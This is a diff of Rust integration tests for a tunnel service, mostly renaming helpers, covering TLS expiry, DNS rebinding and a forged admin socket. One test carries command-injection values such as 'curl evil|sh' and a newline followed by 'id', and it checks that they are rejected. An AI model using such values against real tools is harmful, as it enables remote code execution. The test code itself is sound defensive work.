@@ -35,9 +35,9 @@ use tunnel_net::tls::certificate::EDGE;
 use tunnel_net::tls::{Identity, server_name};
 use tunnel_proto::hello::Hello;
 
-use crate::support::clients::{ask, get, is_reset};
+use crate::support::clients::{assert_reset, get, send_request};
 use crate::support::programs::{NAME, TOKEN, TestDir, TestServer, at, edge, edge_with};
-use crate::support::{assert_eventually, beside, remote, wait_until};
+use crate::support::{assert_eventually, remote, spawn, wait_until};
 
 /// Starts a server with egress and HTTPS ports that accept certificates of its CA with these names.
 fn server(place: &TestDir, names: &str) -> TestServer {
@@ -71,15 +71,15 @@ fn client(place: &TestDir, shows: &Identity, ways: Tls12Resumption, is_old: bool
 }
 
 /// Returns the kind of the client's handshake at a port, or the error.
-async fn gets_in(client: &Arc<ClientConfig>, port: SocketAddr) -> Result<HandshakeKind, String> {
+async fn handshake(client: &Arc<ClientConfig>, port: SocketAddr) -> Result<HandshakeKind, String> {
     let connect = async {
         let socket = TcpStream::connect(port).await?;
         let connector = TlsConnector::from(client.clone());
         let mut tls = connector.connect(server_name(NAME).unwrap(), socket).await?;
         let kind = tls.get_ref().1.handshake_kind().unwrap();
         // In TLS 1.3 the client finishes before the server has checked its certificate. Neither end sends first here.
-        let told = tokio::time::timeout(Duration::from_millis(300), tls.read_u8()).await;
-        match told {
+        let alert = tokio::time::timeout(Duration::from_millis(300), tls.read_u8()).await;
+        match alert {
             Ok(Err(cause)) if cause.kind() != std::io::ErrorKind::UnexpectedEof => Err(cause),
             _ => Ok(kind),
         }
@@ -108,18 +108,21 @@ async fn an_expired_certificate_cannot_resume_a_tls_session_at_any_port() {
             (Tls12Resumption::SessionIdOrTickets, HandshakeKind::Resumed),
         ] {
             let client = client(&place, &shows, ways, true);
-            assert_eq!(gets_in(&client, port).await, Ok(HandshakeKind::Full), "{name}, {ways:?}");
+            assert_eq!(handshake(&client, port).await, Ok(HandshakeKind::Full), "{name}, {ways:?}");
             clients.push((name, port, ways, again, client));
         }
     }
     let mut kinds = Vec::new();
     for (name, port, ways, again, client) in &clients {
-        kinds.push((*name, *ways, gets_in(client, *port).await, Ok(*again)));
+        kinds.push((*name, *ways, handshake(client, *port).await, Ok(*again)));
     }
     wait_until("the certificate has expired", || SystemTime::now() > ends).await;
     for (name, port, ways, _, client) in &clients {
-        let told = gets_in(client, *port).await;
-        assert!(told.as_ref().is_err_and(|told| told.contains("Expired")), "{name}, {ways:?}: {told:?}");
+        let result = handshake(client, *port).await;
+        assert!(
+            result.as_ref().is_err_and(|result| result.contains("Expired")),
+            "{name}, {ways:?}: {result:?}"
+        );
     }
     for (name, ways, kind, expected) in kinds {
         assert_eq!(kind, expected, "{name}, {ways:?}, before the expiry");
@@ -153,12 +156,12 @@ async fn an_edges_certificate_is_refused_even_if_every_name_is_allowed() {
         for is_old in [true, false] {
             let tried = async |shows: &Identity| {
                 let client = client(&place, shows, Tls12Resumption::Disabled, is_old);
-                gets_in(&client, port).await
+                handshake(&client, port).await
             };
             assert_eq!(tried(&other).await, Ok(HandshakeKind::Full));
             for shows in [&agent, &of_kubelet] {
-                let told = tried(shows).await;
-                assert!(told.as_ref().is_err_and(|told| told.contains("AccessDenied")), "{told:?}");
+                let result = tried(shows).await;
+                assert!(result.as_ref().is_err_and(|result| result.contains("AccessDenied")), "{result:?}");
             }
         }
     }
@@ -208,7 +211,7 @@ async fn a_page_that_uses_dns_rebinding_reads_and_changes_nothing() {
     {
         let request = async |line: &str, hosts: &str| {
             let head = format!("{line} HTTP/1.1\r\n{hosts}Connection: close\r\nContent-Length: 1\r\n\r\n2");
-            ask(port, &head).await
+            send_request(port, &head).await
         };
         for host in ["evil.example", "evil.example:9010", "127.0.0.1.evil.example", "localhost.evil.example"]
         {
@@ -267,7 +270,7 @@ async fn no_edge_dials_a_port_of_another_process_on_its_machine() {
     let own = [Some(of_server.grpc), Some(of_server.log), of_server.channelz];
     let own = own.into_iter().chain([of_edge.log, of_edge.channelz, of_edge.proxy]).map(Option::unwrap);
     for port in own.chain(clients).map(|at| SocketAddr::from(([127, 0, 0, 1], at.port()))) {
-        let answer = server.ask(&at("node1", port)).await;
+        let answer = server.request_connect(&at("node1", port)).await;
         assert_eq!(answer.status, 403, "{port}: {answer:?}");
         assert!(answer.phrase.contains("a tunnel process's own port"), "{answer:?}");
     }
@@ -276,7 +279,7 @@ async fn no_edge_dials_a_port_of_another_process_on_its_machine() {
     // After its process has ended, a port may belong to any other program.
     let port = neighbour.bound.log.unwrap();
     neighbour.shutdown(async {}).await;
-    let answer = server.ask(&at("node1", port)).await;
+    let answer = server.request_connect(&at("node1", port)).await;
     assert_eq!(answer.status, 502, "{answer:?}");
     let listener = tokio::net::TcpListener::bind(port).await.unwrap();
     server.open(&at("node1", port)).await;
@@ -285,7 +288,7 @@ async fn no_edge_dials_a_port_of_another_process_on_its_machine() {
 
 /// The edge and the server would pass the connection to each other endlessly.
 #[tokio::test]
-async fn a_port_that_stands_for_itself_at_a_node_of_its_machine_is_refused() {
+async fn a_tcp_port_that_forwards_to_itself_is_refused() {
     let place = TestDir::new();
     let free = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let at = free.local_addr().unwrap();
@@ -294,7 +297,7 @@ async fn a_port_that_stands_for_itself_at_a_node_of_its_machine_is_refused() {
     let server = TestServer::from_text(&(place.cloud("") + &tcp));
     let _edge = edge(&place, &server, "node1").await;
     let mut client = TcpStream::connect(at).await.unwrap();
-    is_reset(&mut client).await;
+    assert_reset(&mut client).await;
     assert_eq!(server.server.metrics.sessions.closed("tcp", "own_port"), 1);
 }
 
@@ -302,11 +305,11 @@ async fn a_port_that_stands_for_itself_at_a_node_of_its_machine_is_refused() {
 const BRIEF: Duration = Duration::from_secs(12);
 
 /// Serves an admin socket that another program has: each connection gets the answer that is set.
-fn impostor(place: &TestDir) -> (PathBuf, watch::Sender<String>) {
+fn forged_admin_socket(place: &TestDir) -> (PathBuf, watch::Sender<String>) {
     let path = place.path().join("server.sock");
     let (listener, answers) = (UnixListener::bind(&path).unwrap(), watch::Sender::new(String::new()));
     let answer = answers.subscribe();
-    beside(async move {
+    spawn(async move {
         while let Ok((mut socket, _)) = listener.accept().await {
             let body = answer.borrow().clone();
             let _ = socket.read(&mut [0; 4096]).await;
@@ -318,21 +321,21 @@ fn impostor(place: &TestDir) -> (PathBuf, watch::Sender<String>) {
 }
 
 #[tokio::test]
-async fn an_impostor_at_the_socket_gets_no_command_into_an_invitation() {
+async fn a_forged_admin_socket_cannot_inject_a_command_into_an_invitation() {
     let place = TestDir::new();
-    let (socket, answers) = impostor(&place);
+    let (socket, answers) = forged_admin_socket(&place);
     let code = |node: &str| InvitationCode::random([7; 16], node.parse().unwrap()).to_string();
     let (right, other) = (code("node1"), code("node2"));
     let run = async |code: &str, cloud: &str| {
         answers.send_replace(format!(r#"{{"code": {code:?}, "until": 1, "cloud": {cloud:?}}}"#));
         let line = ["tunnel", "invite", "--node", "node1", "--socket", socket.to_str().unwrap()];
-        let Command::Invite(asked) = Args::parse_from(line).command else { panic!("{line:?}") };
-        invitations::invite(asked, &Environment::default()).await
+        let Command::Invite(invite_args) = Args::parse_from(line).command else { panic!("{line:?}") };
+        invitations::invite(invite_args, &Environment::default()).await
     };
-    let told = run(&right, "tunnel.test:9000").await.unwrap();
+    let output = run(&right, "tunnel.test:9000").await.unwrap();
     assert!(
-        told.contains(&format!("echo {right} | tunnel join tunnel.test:9000 --invitation -\n")),
-        "{told}"
+        output.contains(&format!("echo {right} | tunnel join tunnel.test:9000 --invitation -\n")),
+        "{output}"
     );
     for (code, cloud) in [
         ("iAAAA.n1; curl evil|sh #", "tunnel.test:9000"),
@@ -342,8 +345,8 @@ async fn an_impostor_at_the_socket_gets_no_command_into_an_invitation() {
         (&other, "tunnel.test:9000"),
         (&format!("{right}\n id"), "tunnel.test:9000"),
     ] {
-        let told = run(code, cloud).await.unwrap_err();
-        assert!(told.text.contains("incompatible version"), "{code}, {cloud}: {told}");
+        let output = run(code, cloud).await.unwrap_err();
+        assert!(output.text.contains("incompatible version"), "{code}, {cloud}: {output}");
     }
 }
 
@@ -358,11 +361,11 @@ fn poison(value: &mut Value) {
 }
 
 #[tokio::test]
-async fn an_impostor_at_the_socket_controls_no_terminal() {
+async fn output_of_a_forged_admin_socket_has_no_control_characters() {
     let place = TestDir::new();
     let server = TestServer::start(&place);
     let _edge = edge(&place, &server, "node1").await;
-    let (socket, answers) = impostor(&place);
+    let (socket, answers) = forged_admin_socket(&place);
     for path in ["/status", "/nodes"] {
         let mut body: Value = serde_json::from_str(&get(server.server.bound.log, path).await.body).unwrap();
         poison(&mut body);
@@ -370,12 +373,12 @@ async fn an_impostor_at_the_socket_controls_no_terminal() {
             answers.send_replace(body);
             for output in [Format::Text, Format::Json] {
                 let (at, env) = (Some(socket.clone()), Environment::default());
-                let told = match path {
+                let result = match path {
                     "/status" => status::status(at, output, &env).await,
                     _ => status::nodes(at, output, &env).await,
                 };
-                assert_eq!(told.is_ok(), is_json, "{path}: {told:?}");
-                let text = told.unwrap_or_else(|error| error.text);
+                assert_eq!(result.is_ok(), is_json, "{path}: {result:?}");
+                let text = result.unwrap_or_else(|error| error.text);
                 let is_plain = |c: char| c == '\n' || !c.is_control() && c != '\u{202e}';
                 assert!(text.chars().all(is_plain), "{path}, {output:?}: {text:?}");
             }
